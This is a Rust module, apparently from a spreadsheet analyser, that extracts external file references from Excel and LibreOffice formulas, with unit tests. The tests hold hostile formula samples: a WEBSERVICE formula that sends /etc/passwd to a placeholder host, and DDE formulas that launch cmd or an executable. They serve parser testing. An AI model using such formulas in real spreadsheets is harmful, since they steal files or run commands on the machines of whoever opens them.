//! Other files that references in formulas name: `'\\host\share\[a.xls]Sheet'!A1` as Excel writes
//! it where it has no table of external links, `'file:///C:/a.ods'#$Sheet1.A1` as LibreOffice does
//! (`spec/excel.md` §5.5, §7.2).

use std::borrow::Cow;
use std::ops::Range;

use super::brackets::{Brackets, is_name};
use super::{quoted, skip_blanks};

/// A file that a reference leads to.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(crate) struct File<'t> {
    pub(crate) target: Cow<'t, str>,
    /// The quoted part of the reference.
    pub(crate) span: Range<usize>,
}

/// Every file that a reference in `text` leads to, in order. Files of the same folder, which Excel
/// names without a path, are none. The topic of a DDE reference is none either.
pub(crate) fn files(text: &str) -> Files<'_> {
    Files {
        text,
        at: 0,
        topic: false,
        brackets: Brackets::of(text),
    }
}

/// See [`files`].
pub(crate) struct Files<'t> {
    text: &'t str,
    at: usize,
    /// A `|` stands before: what follows is the topic of a DDE reference.
    topic: bool,
    brackets: Brackets,
}

impl<'t> Iterator for Files<'t> {
    type Item = File<'t>;

    fn next(&mut self) -> Option<File<'t>> {
        let bytes = self.text.as_bytes();
        loop {
            let here = self.at;
            let after = here.saturating_add(1);
            self.at = after;
            match bytes.get(here)? {
                b' ' | b'\t' | b'\r' | b'\n' => continue,
                b'"' => {
                    self.at = quoted(self.text, here, b'"').map_or(after, |(_, end)| end);
                }
                b'[' => self.at = self.brackets.end(bytes, here).unwrap_or(after),
                b'\'' => {
                    let Some((name, end)) = quoted(self.text, here, b'\'') else {
                        self.topic = false;
                        continue;
                    };
                    self.at = end;
                    let topic = std::mem::take(&mut self.topic);
                    let mark = bytes.get(skip_blanks(bytes, end, true));
                    let found = if bytes.get(end) == Some(&b'#') {
                        Some(name).filter(|name| name.contains([':', '/', '\\', '.']))
                    } else if mark == Some(&b'!') && !topic {
                        book(name)
                    } else {
                        None
                    };
                    if let Some(target) = found {
                        let span = here..end;
                        return Some(File { target, span });
                    }
                    continue;
                }
                byte if is_name(*byte) => {
                    // The bracket after a name may open a structured reference.
                    let rest = bytes.get(after..).unwrap_or_default();
                    let more = rest.iter().take_while(|byte| is_name(**byte)).count();
                    self.at = after.saturating_add(more);
                }
                _ => {}
            }
            self.topic = bytes.get(here) == Some(&b'|');
        }
    }
}

/// The file in `path[book]sheet`, or in `path` of a name that belongs to the whole book. Sheets
/// have no `/` and no `\` in their names; `Sheet 1:Sheet 3` is in this workbook. Without brackets,
/// Excel writes where the file is from the root on; a text of another kind is none (`'/c calc'`).
fn book(name: Cow<'_, str>) -> Option<Cow<'_, str>> {
    let open = name.find('[');
    let path = open.and_then(|open| name.get(..open)).unwrap_or(&name);
    if !path.contains(['/', '\\']) {
        return None;
    }
    let close = name.rfind(']');
    match (open, close) {
        (Some(open), Some(close)) if open < close => {
            let file = name.get(open.saturating_add(1)..close)?;
            Some(Cow::Owned(format!("{path}{file}")))
        }
        _ => Some(name).filter(|name| is_path(name)),
    }
}

/// Whether a text with a separator in it is the path of a file: it starts at a drive, a server or a
/// scheme, or its last name has an extension.
fn is_path(text: &str) -> bool {
    let text = text.trim();
    let rooted = matches!(
        text.as_bytes(),
        [b'\\', b'\\', ..] | [b'/', b'/', ..] | [_, b':', b'\\' | b'/', ..]
    );
    let last = text.rsplit(['/', '\\']).next().unwrap_or_default();
    rooted || text.contains("://") || last.contains('.')
}

#[cfg(test)]
mod tests {
    use super::*;

    fn all(text: &str) -> Vec<String> {
        files(text).map(|file| file.target.into_owned()).collect()
    }

    /// `spec/excel.md` §5.5.
    #[test]
    fn published_references_of_libreoffice() {
        for text in [
            "='file:///etc/passwd'#$passwd.A1",
            "=WEBSERVICE(CONCATENATE(\"http://x:8080/\",('file:///etc/passwd'#$passwd.A1)))",
        ] {
            assert_eq!(all(text), ["file:///etc/passwd"], "{text}");
        }
        assert_eq!(
            all(
                "=['file:///C:/a.ods'#$Sheet1.A1]+'Sheet 2'.A1&\"'x:y'#\"&'http://x/b.ods'#$S.A1&'"
            ),
            ["file:///C:/a.ods", "http://x/b.ods"]
        );
    }

    #[test]
    fn references_of_excel() {
        assert_eq!(
            all("='\\\\host.example\\s\\[a.xls]Sheet1'!A1+SUM('C:\\it''s\\[b.xlsx]x y'!A1:B2)"),
            ["\\\\host.example\\s\\a.xls", "C:\\it's\\b.xlsx"]
        );
        assert_eq!(all("='https://x/y/[c.xlsx]S'!$A$1"), ["https://x/y/c.xlsx"]);
        assert_eq!(all("=IF(1,'\\\\h\\s\\a.xls'!Total,2)"), ["\\\\h\\s\\a.xls"]);
        // Without an extension, and beside this file.
        assert_eq!(all("='C:\\x\\Book'!Total"), ["C:\\x\\Book"]);
        assert_eq!(all("='//h/s/Book'!Total"), ["//h/s/Book"]);
        assert_eq!(all("='old/a.xls'!Total"), ["old/a.xls"]);
    }

    #[test]
    fn what_leads_nowhere() {
        for text in [
            "=cmd|'/c calc'!A0",
            "=cmd| '/c calc' !A0",
            "=MSEXCEL|'\\..\\x.exe'!'A1'",
            "=cmd|\"/c\"&'/c calc'!A0",
            "='/c calc'!A0+'and/or'!B1",
            "='My sheet'!A1",
            "='Sheet 1:Sheet 3'!A1",
            "='[Book1.xlsx]My sheet'!A1",
            "=\"'C:\\x\\[a.xls]S'!A1\"",
            "=[1]!'a/b'",
            "=Table1[a'b/]&Table1['/]!x",
            "='C:\\x",
            "'a/b'",
            "='a'#b",
            "'x' # 'y.z'",
            "",
        ] {
            assert_eq!(all(text), [""; 0], "{text}");
        }
    }

    #[test]
    fn long_junk_is_linear() {
        for junk in [
            "'", "''", "'a/'", "\"", "[", "a[", "|", "'/'!", "a", "'[]'!",
        ] {
            let text = junk.repeat(1_000_000 / junk.len());
            let _ = files(&text).count();
        }
    }
}
